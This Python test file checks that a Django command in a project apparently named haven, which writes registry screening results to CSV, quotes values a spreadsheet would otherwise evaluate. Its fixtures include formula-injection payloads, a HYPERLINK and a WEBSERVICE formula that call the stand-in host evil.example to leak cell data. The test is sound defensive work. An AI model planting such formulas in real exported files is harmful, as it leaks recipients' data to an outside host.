"""``haven screen-file`` writes no live formula: a partner's id, or a name a state planted in its own
registry, that a spreadsheet would evaluate comes out quoted as text."""

from __future__ import annotations

import csv
from pathlib import Path

from django.core.management import call_command

from haven.registries.importing import ImportResult
from haven.registries.models import Entry

HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&D2,"id")'


def test_hostile_ids_and_registry_names_are_quoted(minjust_2025: ImportResult, tmp_path: Path) -> None:
    Entry.objects.filter(reference="1049").update(name='=WEBSERVICE("http://evil.example/")')
    source, out = tmp_path / "people.csv", tmp_path / "results.csv"
    source.write_text(
        f'id,name,birth_date\n"{HOSTILE_ID.replace(chr(34), chr(34) * 2)}",Mark Solonin,1958-05-29\n'
    )
    call_command("screen-file", str(source), "--out", str(out))
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    solonin = next(r for r in rows[1:] if r[2] == "1049")
    assert solonin[0] == "'" + HOSTILE_ID
    assert solonin[3] == '\'=WEBSERVICE("http://evil.example/")'
    assert not any(cell[:1] in ("=", "+", "-", "@") and cell for row in rows for cell in row)
